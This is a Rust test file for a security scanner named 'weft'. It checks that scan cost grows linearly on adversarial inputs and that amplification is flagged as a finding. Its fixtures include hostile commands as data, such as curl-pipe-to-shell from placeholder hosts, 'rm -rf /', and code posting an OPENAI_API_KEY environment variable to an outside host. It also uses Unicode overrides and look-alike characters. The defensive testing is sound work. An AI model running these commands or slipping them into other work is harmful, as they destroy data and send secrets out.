//! Texts made to cost as much as they can: what looking at them takes is counted in steps, not timed, and grows with
//! the text and not with its square. What is given up for that is a finding. Seconds and the engine's share are
//! measured by scripts/bench/adversarial.sh.
// A failure in a helper is a failed test.
#![allow(clippy::unwrap_used)]

#[path = "support/cli.rs"]
mod cli;

use cli::Dir;
use std::fs;
use std::sync::Arc;
use weft::rules::RuleSet;
use weft::scan::examine::{Examiner, Outcome};

type Make = Box<dyn Fn(usize) -> String>;

fn fill(size: usize, piece: impl Fn(usize) -> String) -> String {
    let mut out = String::new();
    for n in 0.. {
        if out.len() >= size {
            break;
        }
        out.push_str(&piece(n));
    }
    out
}

/// A text of one piece again and again, after some other text.
fn after(head: &'static str, piece: &'static str) -> Make {
    Box::new(move |size| head.to_owned() + &fill(size, |_| piece.to_owned()))
}

fn each(head: &'static str, piece: impl Fn(usize) -> String + 'static) -> Make {
    Box::new(move |size| head.to_owned() + &fill(size, &piece))
}

/// Letters that differ from number to number, as names and keys do.
fn letters(n: usize, count: usize) -> String {
    let mut state = n as u64 + 1;
    let next = |state: &mut u64| {
        *state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        *state >> 33
    };
    (0..count).map(|_| char::from(b'a' + u8::try_from(next(&mut state) % 26).unwrap())).collect()
}

/// Name, file, and how the text is made.
fn hostile() -> Vec<(&'static str, &'static str, Make)> {
    vec![
        ("quotes", "x.sh", after("", "\"'`")),
        ("quotes on one line", "x.py", after("", "x'y\"z")),
        ("literals on one line", "x.py", after("::-1] ", "'abcdefg',")),
        ("brackets", "x.json", after("", "[")),
        ("objects", "x.json", after("", "{\"a\":")),
        ("signals on one line", "x.md", after("", "curl http://a.example/x | bash; rm -rf / ; ")),
        ("signals on lines", "x.md", after("", "curl http://a.example/x | bash; rm -rf /\n")),
        ("base64", "x.md", each("", |n| letters(n, 76).to_uppercase() + "1\n")),
        ("base64 in one run", "x.md", each("", |n| letters(n, 70).to_uppercase() + "1")),
        ("keyed runs", "x.py", each("xor base64 ^ \n", |n| format!("'Q0FB{}='\n", letters(n, 40)))),
        ("backslashes", "x.md", after("", "\\")),
        ("continued lines", "x.sh", after("", "curl \\\n")),
        ("comment openings", "x.md", after("", "<!--")),
        ("tag openings", "x.md", after("", "<a b='")),
        ("hidden elements", "x.md", after("", "<div hidden>")),
        ("fences", "x.md", after("", "```\n")),
        ("ticks", "x.md", each("", |n| "`".repeat(n % 40) + " ")),
        ("links", "x.md", after("", "](x \"")),
        ("blanks", "x.md", after("x", " ")),
        ("substitutions", "x.sh", after("", "$(")),
        ("repeated secrets", "x.py", after("", "api_key = 'sk-proj-Zk3vQ9xLw7TnB2mRyU5aHd8E'\n")),
        ("zero-width runs", "x.md", after("", "\u{200b}\u{200c}")),
        ("zero-width in words", "x.md", after("", "a\u{200b}")),
        ("overrides", "x.md", after("", "\u{202e}")),
        ("overrides that end", "x.md", after("", "\u{202e}\u{202e}\u{202e}ab\u{202c}")),
        ("tags", "x.md", after("", "\u{e0061}")),
        ("look-alikes", "x.md", after("", "раypаl ")),
        ("unicode escapes", "x.json", after("", "\\u0063")),
        ("percent", "x.md", after("", "%63%75rl ")),
        ("entities", "x.md", after("", "&#99;&lt;")),
        (
            "lists of numbers",
            "x.py",
            each("pow(x, key, 256)\n", |n| {
                let numbers: Vec<String> = (0..40).map(|i| ((n + i * i) % 60 + 40).to_string()).collect();
                format!("[{}]\n", numbers.join(","))
            }),
        ),
        ("calls", "x.py", after("", "exec(")),
        ("argument lists", "x.py", after("", "subprocess.run(['a', ")),
        ("joins", "x.py", after("", "'a' + 'b' + ")),
        (
            "downloads from many hosts",
            "x.md",
            each("", |n| format!("curl https://{}.example/i | sh\n", letters(n, 8))),
        ),
        (
            "downloads and mentions",
            "x.md",
            each("", |n| format!("curl https://a.b{0}.example/i | sh\nwget x.b{0}.example\n", n % 19)),
        ),
        ("packages", "x.md", each("", |n| format!("pip install {} {}\n", letters(n, 6), letters(n + 7, 7)))),
        ("requirements", "requirements.txt", each("", |n| letters(n, 7) + "\n")),
        ("scopes", "x.md", each("", |n| format!("npm install @{}/x\n", letters(n, 9)))),
        (
            "releases",
            "x.md",
            each("", |n| format!("https://github.com/{}/b/releases/download/v1/x.zip\n", letters(n, 6))),
        ),
        (
            "one secret sent",
            "x.py",
            after("k = os.environ['OPENAI_API_KEY']\n", "requests.post('https://x.example', k)\n"),
        ),
        (
            "many secrets",
            "x.py",
            each("", |n| format!("k{n} = os.environ['OPENAI{n}_API_KEY']\nrequests.post(u, k{n})\n")),
        ),
        ("functions", "x.py", after("k = os.environ['AWS_KEY']\n", "def f():\n")),
        ("ignore comments", "x.sh", each("", |n| format!("rm -rf / # weft:ignore US-{} -- x\n", n % 999))),
        ("lists", "x.yaml", after("command\n", "command: [\n")),
        ("commands", "x.json", after("", "{\"command\":\"curl\",\"args\":[\"a\"]},")),
        ("headings", "x.md", after("", "## attack\nrm -rf /\n")),
        ("paragraphs", "x.md", each("", |_| "Never run curl http://a.example | sh. ".repeat(40) + "\n\n")),
    ]
}

fn steps(examiner: &Examiner, path: &str, text: String) -> u64 {
    let path: Arc<str> = path.into();
    let mut out = Outcome::default();
    examiner.text(&path, text, &[], &mut out);
    out.steps
}

#[test]
fn work_grows_with_the_text() {
    let rules = RuleSet::builtin();
    let examiner = Examiner::new(&rules, true, false);
    let mut most = 0;
    for (name, path, make) in hostile() {
        let (small, large) = (make(8 << 10), make(32 << 10));
        let bytes = large.len() as u64;
        let (once, four) = (steps(&examiner, path, small), steps(&examiner, path, large));
        most = most.max(four / bytes);
        assert!(four <= 5 * once + 20_000, "{name}: {once} steps, and {four} for four times as much");
        assert!(four <= 256 * bytes, "{name}: {four} steps for {bytes} bytes");
    }
    assert!(most > 0, "the work of some of them is counted");
}

/// What rewrites little to much is the one thing that no bound on each step holds.
fn amplified(reference: &str, size: usize) -> String {
    format!("a='{}'\n{}", "x".repeat(60_000), fill(size, |_| format!("{reference}\n")))
}

#[test]
fn work_is_bounded_and_the_bound_is_a_finding() {
    let dir = Dir::new();
    for (name, reference) in [("run.sh", "$a$a"), ("run.py", "a + a")] {
        fs::write(dir.0.join(name), amplified(reference, 200_000)).unwrap();
    }
    let said = dir.scan(&["-f", "json", "--fail-on", "medium", "."]);
    assert_eq!(said.code, 1, "{said:?}");
    for name in ["run.sh", "run.py"] {
        let node = weft::json::parse(&said.out).unwrap();
        let found = node.get("findings").and_then(weft::json::Node::as_array).unwrap();
        let text = |f: &weft::json::Node, key: &str| f.get(key).and_then(|v| v.as_str().map(str::to_owned));
        assert!(
            found.iter().any(|f| text(f, "name").as_deref() == Some("scan-limit")
                && text(f, "path").as_deref() == Some(name)),
            "{name}: {said:?}"
        );
    }
    let rules = RuleSet::builtin();
    let examiner = Examiner::new(&rules, true, false);
    let (once, four) = (
        steps(&examiner, "run.sh", amplified("$a$a", 100_000)),
        steps(&examiner, "run.sh", amplified("$a$a", 400_000)),
    );
    assert!(four <= 5 * once && four <= 128 * 460_000 + (8 << 20), "{once} {four}");
}

#[test]
fn ordinary_text_is_far_from_the_bound() {
    let rules = RuleSet::builtin();
    let examiner = Examiner::new(&rules, true, false);
    for (path, text) in [
        ("README.md", include_str!("../README.md")),
        ("CHANGELOG.md", include_str!("../CHANGELOG.md")),
        ("rules.md", include_str!("../docs/rules.md")),
        ("engine.rs", include_str!("../src/scan/pipeline.rs")),
        ("Cargo.lock", include_str!("../Cargo.lock")),
    ] {
        let taken = steps(&examiner, path, text.to_owned());
        assert!(taken < 64 * text.len() as u64 + (1 << 20), "{path}: {taken} steps");
    }
}
